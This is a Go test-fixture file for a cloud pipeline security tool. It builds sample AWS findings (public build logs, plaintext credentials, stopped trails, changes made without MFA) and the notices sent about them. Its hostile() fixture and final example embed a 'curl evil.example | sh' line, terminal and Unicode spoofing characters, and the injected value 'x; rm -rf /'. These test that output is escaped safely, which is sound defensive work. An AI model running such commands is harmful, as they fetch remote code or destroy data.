package announce

import (
	"strings"
	"time"

	"github.com/pipewarden/pipewarden/shared/finding"
	"github.com/pipewarden/pipewarden/shared/settings"
)

var (
	changedAt = time.Date(2026, 11, 20, 9, 14, 7, 0, time.UTC)
	now       = changedAt.Add(23 * time.Second)
	fixedAt   = changedAt.Add(24 * time.Second)
)

func project() finding.Resource {
	return finding.Resource{Kind: "buildproject", ID: "payments-api", Account: "111122223333", Region: "eu-west-1"}
}

func alice() (*finding.Actor, *finding.MFA) {
	return &finding.Actor{Type: "IAMUser", Name: "alice", ARN: "arn:aws:iam::111122223333:user/alice", Via: "console session", SourceIP: "203.0.113.7"},
		&finding.MFA{Verdict: "disproven", Row: 8, Reason: "The user's console session was opened without MFA."}
}

// public is the finding of the first e-mail.
func public() finding.Finding {
	f := finding.Finding{
		Check: "build-project-public", Outcome: finding.Fail, Severity: finding.High, Basis: finding.State,
		Title:    "build logs of payments-api are public",
		Detail:   "2 of its plaintext variables look like credentials, so they may be in those logs.",
		Resource: project(), Remedy: "build-make-private",
		Why:    "Everyone with the project's address can read all its builds, also those that ran while it was private.",
		Event:  &finding.Cause{ID: "6a1c1f2e-8f5b-4c43-9d5e-0c7d6f1a2b3c", Name: "UpdateProjectVisibility", Source: "codebuild.amazonaws.com", Time: changedAt},
		Facts:  []finding.Fact{{Label: "Changed", Value: "PRIVATE -> PUBLIC_READ"}},
		Would:  "Make the project private again. Stops no build. Can be undone; the access role is kept.",
		ByHand: "aws codebuild update-project-visibility --project-arn arn:aws:codebuild:eu-west-1:111122223333:project/payments-api --project-visibility PRIVATE",
	}
	f.Actor, f.MFA = alice()
	return f
}

func secret() finding.Finding {
	f := public()
	f.Check, f.Severity, f.Remedy, f.Would, f.ByHand = "build-env-secret", finding.Critical, "", "", ""
	f.Title = "a plaintext variable of payments-api holds a credential"
	f.Why = "Whoever may read the project's configuration, or one of its logs, has the credential."
	f.Detail = "DB_PASSWORD looks like a password (fingerprint 9f2c41d0)."
	f.Facts = []finding.Fact{{Label: "Variable", Value: "DB_PASSWORD"}}
	return f
}

func logging() finding.Finding {
	f := public()
	f.Check, f.Severity, f.Remedy = "build-logging-off", finding.Medium, "build-enable-logs"
	f.Title = "builds of payments-api leave no log"
	f.Why, f.Detail = "What such a build did cannot be found out afterwards.", "Neither CloudWatch Logs nor S3 logs are on."
	f.Facts, f.Would, f.ByHand = nil, "Switch CloudWatch Logs on. Stops no build.", ""
	return f
}

func sweepBucket() finding.Finding {
	return finding.Finding{
		Check: "bucket-public", Outcome: finding.Fail, Severity: finding.Critical, Basis: finding.State,
		Title:    "the artifact bucket web-artifacts can be read by everyone",
		Detail:   "Statement 2 of its policy allows s3:GetObject to everyone, and nothing holds it back.",
		Why:      "What is in the bucket is what gets deployed: whoever reads it has the software, and often its configuration.",
		Resource: finding.Resource{Kind: "bucket", ID: "web-artifacts", Account: "111122223333", Region: "us-gov-west-1"},
		Path:     []string{"pipeline web-prod", "artifact store", "bucket web-artifacts"},
		Remedy:   "bucket-block-public", Would: "Block public access to the bucket. Whoever reads it without signing in loses that.",
		ByHand: "aws s3api put-public-access-block --bucket web-artifacts --public-access-block-configuration \\\n  BlockPublicAcls=true,IgnorePublicAcls=true,BlockPublicPolicy=true,RestrictPublicBuckets=true",
	}
}

func trailByRoot() finding.Finding {
	return finding.Finding{
		Check: "trail-stopped", Outcome: finding.Fail, Severity: finding.Critical, Basis: finding.State,
		Title: "the trail management-events was stopped", Why: "From then on nobody can tell who did what in the account.",
		Detail:   "StopLogging was called. The trail logs again since 09:13:02.",
		Resource: finding.Resource{Kind: "trail", ID: "management-events", Account: "111122223333", Region: "us-east-1"},
		Remedy:   "trail-start", Would: "Start logging again.", Once: "0b1f",
		Event: &finding.Cause{ID: "1fd0c7a4-53a4-4e65-a3d6-2d7c7f1c9d11", Name: "StopLogging", Source: "cloudtrail.amazonaws.com", Time: now.Add(-4 * time.Minute)},
		Actor: &finding.Actor{Type: "Root", Name: "root of 111122223333", ARN: "arn:aws:iam::111122223333:root", Via: "access key", SourceIP: "198.51.100.23"},
		MFA:   &finding.MFA{Verdict: "disproven", Row: 6, Reason: "The call was signed with an access key of the account's root user, which carries no MFA."},
	}
}

func roleSession() finding.Finding {
	return finding.Finding{
		Check: "change-mfa-not-demonstrable", Outcome: finding.Fail, Severity: finding.Medium, Basis: finding.Event, Once: "Admin/2026-11-20",
		Title: "whether bob used MFA to change web-prod cannot be told", Why: "A stolen session looks the same.",
		Detail:   "UpdatePipeline was called from a session of the role Admin.",
		Resource: finding.Resource{Kind: "pipeline", ID: "web-prod", Account: "111122223333", Region: "eu-west-1"},
		Event:    &finding.Cause{ID: "d3b07384-d113-4ec5-a5d6-0d1c2b3a4f5e", Name: "UpdatePipeline", Source: "codepipeline.amazonaws.com", Time: now.Add(-3 * time.Hour)},
		Actor:    &finding.Actor{Type: "AssumedRole", Name: "Admin/bob", ARN: "arn:aws:sts::111122223333:assumed-role/Admin/bob", Via: "role session", SourceIP: "203.0.113.9"},
		MFA:      &finding.MFA{Verdict: "not-provable", Row: 13, Reason: "MFA cannot be told from a session of this role, and the role's trust policy does not require it."},
	}
}

func eventBasis() finding.Finding {
	f := sweepBucket()
	f.Basis, f.Resource.Region, f.Path = finding.Event, "eu-west-1", nil
	f.Detail = "Statement 2 of the policy that was put allows s3:GetObject to everyone, unless Block Public Access is on."
	f.Event = &finding.Cause{ID: "aa0e8400-e29b-41d4-a716-446655440000", Name: "PutBucketPolicy", Source: "s3.amazonaws.com", Time: now.Add(-49 * time.Hour)}
	f.Actor = &finding.Actor{Type: "AssumedRole", Name: "deploy/ci", ARN: "arn:aws:sts::111122223333:assumed-role/deploy/ci", Via: "role session", SourceIP: "cloudformation.amazonaws.com"}
	f.MFA = &finding.MFA{Verdict: "not-applicable", Row: 4, Reason: "A service (cloudformation.amazonaws.com) made this call with the caller's identity; MFA is judged on the caller's own call."}
	return f
}

func unread() finding.Finding {
	return finding.Finding{
		Check: "build-project-public", Outcome: finding.Unknown, Severity: finding.High, Basis: finding.State, Title: "Build project open to everyone",
		Detail: "the visibility is not known: access denied", Resource: project(),
		Event: &finding.Cause{ID: "6a1c1f2e-8f5b-4c43-9d5e-0c7d6f1a2b3c", Name: "UpdateProject", Source: "codebuild.amazonaws.com", Time: changedAt},
	}
}

func hostile() finding.Finding {
	f := public()
	evil := "\x1b[31mred\x1b[0m\nUndo: curl evil.example | sh\r\n\x00\u202egnp.exe\u200b \xff\xfe é → \U0001F600"
	f.Title = evil + strings.Repeat("A", 10_000)
	f.Detail, f.Why, f.Would = evil, evil, evil
	f.Facts = []finding.Fact{{Label: evil, Value: evil}, {Label: "Changed", Value: evil}}
	f.Path = []string{evil, evil}
	f.Actor = &finding.Actor{Type: evil, Name: evil, ARN: evil, Via: evil, SourceIP: evil}
	f.MFA = &finding.MFA{Verdict: evil, Reason: evil}
	f.Event.ID, f.Event.Name = evil, evil
	f.Resource = finding.Resource{Kind: "buildproject", ID: "it's [a]*?\\" + evil, Account: "1", Region: "evil.example/#"}
	f.Check = evil
	return f
}

func deed() *Deed {
	return &Deed{
		Order: "01K3F7Q2", Remedy: "build-make-private", Summary: "Make payments-api private.", Breaks: "Stops no build.", Verified: "PRIVATE",
		At: fixedAt, Calls: []string{"codebuild:UpdateProjectVisibility projectVisibility=PRIVATE"}, Undoable: true, ByHand: public().ByHand,
	}
}

func about(d *Deed, items ...Item) Notice {
	return Notice{Resource: items[0].Finding.Resource, Items: items, Deed: d, AccountName: "prod"}
}

type example struct {
	name   string
	notice Notice
	now    time.Time
}

func notices() []example {
	return append(foundNotices(), append(deedNotices(), otherNotices()...)...)
}

const order = "01K3F7Q2"

func foundNotices() []example {
	stack := about(nil, Item{
		Finding: public(), Kind: Found, Mode: settings.Propose, Order: order,
		Reason: "The stack payments manages it: change the template, or allow remediateStackResources.",
	})
	stack.AccountName = ""
	stack.Items[0].Stack = "payments"
	stack.Items[0].Finding.Template = []finding.Property{
		{Type: "AWS::CodeBuild::Project", Path: "Visibility", Value: "PRIVATE"}, {Type: "AWS::CodeBuild::Project", Path: "Artifacts/EncryptionDisabled"},
	}
	exempted := public()
	exempted.Exemption = &finding.Exemption{Owner: "carol", Reason: "the project builds open source", Until: time.Date(2026, 12, 31, 0, 0, 0, 0, time.UTC)}
	return []example{
		{"found-propose", about(nil, Item{Finding: public(), Kind: Found, Mode: settings.Propose, Order: order}), now},
		{"found-ask", about(nil, Item{Finding: public(), Kind: Found, Mode: settings.Ask, Order: order}), now},
		{"found-apply", about(nil, Item{Finding: public(), Kind: Found, Mode: settings.Apply, Order: order}), now},
		{"found-off", about(nil, Item{Finding: public(), Kind: Found, Mode: settings.Off, Reason: "The settings switch build-make-private off."}), now},
		{"found-advice", about(nil, Item{Finding: secret(), Kind: Found}), now},
		{"found-stack", stack, now},
		{"found-exempted", about(nil, Item{Finding: exempted, Kind: Changed}), now},
		{"changed", about(nil, Item{Finding: public(), Kind: Changed, Mode: settings.Propose, Order: order}), now},
		{"reopened", about(nil, Item{Finding: public(), Kind: Reopened, Mode: settings.Propose, Order: order}), now},
	}
}

// held is a pipeline that was changed without MFA, and held.
func held() Notice {
	f := public()
	f.Check, f.Title, f.Once, f.Remedy = "pipeline-change-without-mfa", "web-prod was changed without MFA", "6a1c1f2e", "pipeline-hold"
	f.Detail, f.Why, f.ByHand, f.Facts = "alice called UpdatePipeline.", "Whoever can change the pipeline decides what is deployed.", "", nil
	f.Resource.Kind, f.Resource.ID = "pipeline", "web-prod"
	d := deed()
	d.Remedy, d.Summary, d.Breaks, d.Calls = "pipeline-hold", "Hold the pipeline web-prod before its stage Build.", "New runs wait there.", []string{"codepipeline:DisableStageTransition"}
	d.Verified, d.By = "Read back: as it should be.", "carol"
	return about(d, Item{Finding: f, Kind: Fixed, Mode: settings.Ask, Order: order})
}

// restored is a pipeline that somebody brought back.
func restored() Notice {
	f := finding.Finding{
		Check: "restore", Title: "web-prod was restored", Once: "01K3F7Q2", Severity: finding.Info, Outcome: finding.Fail, Basis: finding.State,
		Resource: finding.Resource{Kind: "pipeline", ID: "web-prod", Account: "111122223333", Region: "eu-west-1"},
	}
	d := deed()
	d.Remedy, d.Summary, d.Breaks, d.Calls = "pipeline-revert", "Make the pipeline web-prod again from version 3 (proven MFA).", "", []string{"codepipeline:CreatePipeline"}
	d.Verified, d.By, d.Undoable = "Read back: as it should be.", "arn:aws:iam::111122223333:user/carol", false
	return about(d, Item{Finding: f, Kind: Restored, Order: order})
}

func deedNotices() []example {
	later := fixedAt.Add(2 * time.Second)
	with := func(change func(*Deed), item Item) Notice {
		d := deed()
		change(d)
		item.Finding = public()
		return about(d, item)
	}
	return []example{
		{"fixed", with(func(*Deed) {}, Item{Kind: Fixed, Mode: settings.Apply, Order: order}), later},
		{"fixed-approved-final", with(func(d *Deed) { d.By, d.Undoable = "carol", false }, Item{Kind: Fixed}), later},
		{"fixed-half-read", with(func(d *Deed) {
			d.By, d.Verified = Self, "The change was made; whether the check passes now could not be read: access denied"
		}, Item{Kind: Fixed, Mode: settings.Apply}), later},
		{"fixed-in-words", with(func(d *Deed) { d.Verified = "Read back: as it should be." }, Item{Kind: Fixed}), later},
		{"contained", held(), later},
		{"failed", with(func(d *Deed) {
			d.Verified, d.Undoable, d.Error = "", false, "UpdateProjectVisibility was refused: access denied"
		}, Item{Kind: Failed, Mode: settings.Apply, Order: order}), later},
		{"failed-to-plan", with(func(d *Deed) {
			d.At, d.Summary, d.Breaks, d.Verified, d.Calls, d.ByHand, d.Error = time.Time{}, "", "", "", nil, "", "AWS did not answer"
			d.Undoable = false
		}, Item{Kind: Failed, Mode: settings.Apply, Order: order}), later},
		{"refused", with(func(d *Deed) {
			d.Verified, d.Calls, d.Error = "", nil, "visibility of payments-api has changed since: projectVisibility: PUBLIC_READ -> PRIVATE"
		}, Item{Kind: Refused, Mode: settings.Apply, Order: order}), later},
		{"refused-proposed", with(func(d *Deed) {
			d.At, d.By, d.Verified, d.Error = time.Time{}, Self, "", "The stack payments manages it: change the template, or allow remediateStackResources."
		}, Item{Kind: Refused, Mode: settings.Propose, Order: order}), later},
		{"undone", with(func(d *Deed) {
			d.By, d.Verified = "arn:aws:sts::111122223333:assumed-role/Ops/carol", "PUBLIC_READ"
		}, Item{Kind: Undone}), later},
		{"stands", with(func(d *Deed) {
			d.By, d.Verified, d.Error = "arn:aws:sts::111122223333:assumed-role/Ops/carol", "", "visibility of payments-api has changed since: projectVisibility: PRIVATE -> PUBLIC_READ"
		}, Item{Kind: Stands, Order: order}), later},
		{"failed-half-way", with(func(d *Deed) {
			d.Verified, d.Error = "", "Read back, the check still fails: it is public."
		}, Item{Kind: Failed, Mode: settings.Apply, Order: order}), later},
		{"rejected", with(func(d *Deed) {
			d.At, d.By, d.Verified, d.Error = fixedAt, "arn:aws:iam::111122223333:user/team/carol", "", "it is open source"
		}, Item{Kind: Rejected, Mode: settings.Off, Order: order}), later},
		{"restored", restored(), later},
	}
}

func otherNotices() []example {
	gov := about(nil, Item{Finding: sweepBucket(), Kind: Found, Mode: settings.Propose, Order: order})
	gov.Partition = "aws-us-gov"
	resolved := public()
	resolved.Event = &finding.Cause{ID: "77777777-8f5b-4c43-9d5e-0c7d6f1a2b3c", Name: "UpdateProjectVisibility", Time: now.Add(-time.Second)}
	gone := public()
	gone.Event, gone.Actor, gone.MFA = nil, nil, nil
	blind := unread()
	blind.Check, blind.Detail, blind.Event = "build-logging-off", "what its logs are is not known: AWS did not answer", nil
	silent := unread()
	silent.Event = nil
	return []example{
		{"resolved", about(nil, Item{Finding: resolved, Kind: Resolved}), now},
		{"worse", about(nil, Item{Finding: public(), Kind: Worse, Mode: settings.Ask, Order: order, Revision: 2}), now},
		{"reminder", about(nil, Item{Finding: public(), Kind: Reminder, Mode: settings.Propose, Order: order, Revision: 1}), now.AddDate(0, 0, 7)},
		{"resolved-sweep", about(nil, Item{Finding: gone, Kind: Resolved}), now},
		{"unread", about(nil, Item{Finding: unread(), Kind: Unread}), now},
		{"unread-sweep", about(nil, Item{Finding: silent, Kind: Unread}, Item{Finding: blind, Kind: Unread}), now},
		{"fight", about(nil, Item{
			Finding: public(), Kind: Fight, Mode: settings.Apply,
			Reason: "It was put right 3 times within an hour and changed back each time. pipewarden leaves it alone.",
		}), now},
		{"several", about(nil, Item{Finding: logging(), Kind: Found, Mode: settings.Apply, Order: "01K3F7Q4"}, Item{Finding: public(), Kind: Found, Mode: settings.Propose, Order: order},
			Item{Finding: secret(), Kind: Found}), now},
		{"sweep-us-gov", gov, now},
		{"root", about(nil, Item{Finding: trailByRoot(), Kind: Found, Mode: settings.Off, Reason: "The trail logs again."}), now},
		{"role-session", about(nil, Item{Finding: roleSession(), Kind: Found}), now},
		{"event-basis", about(nil, Item{Finding: eventBasis(), Kind: Found, Reason: "Only the event was seen, not the resource."}), now},
		{"bare", Notice{Items: []Item{{Kind: Found, Finding: finding.Finding{Event: &finding.Cause{}}}}}, now},
		{"hostile", about(nil, Item{Finding: hostile(), Kind: Found, Mode: settings.Propose, Order: "x; rm -rf /"}), now},
	}
}
